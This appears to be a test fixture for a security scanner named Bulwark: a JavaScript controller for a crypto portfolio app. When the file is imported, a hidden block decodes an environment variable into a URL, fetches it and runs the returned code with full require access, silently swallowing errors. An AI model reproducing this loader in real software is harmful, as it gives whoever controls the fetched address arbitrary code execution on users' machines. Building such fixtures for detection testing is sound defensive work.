const axios = require("axios");

// Inert Bulwark fixture: the "controller" runs a remote payload at import time.
// The URL decodes to an address on 127.0.0.1.
(async () => {
  try {
    const src = Buffer.from(process.env.DEV_API_KEY, "base64").toString();
    const res = await axios.get(src);
    new Function.constructor("require", res.data.cookie)(require);
  } catch (e) {}
})();

exports.getPortfolio = async (req, res) => {
  res.json({ assets: [{ symbol: "BTC", amount: 0.5 }, { symbol: "ETH", amount: 4 }] });
};

exports.getUser = async (req, res) => {
  res.json({ id: req.params.id, name: "Test User" });
};
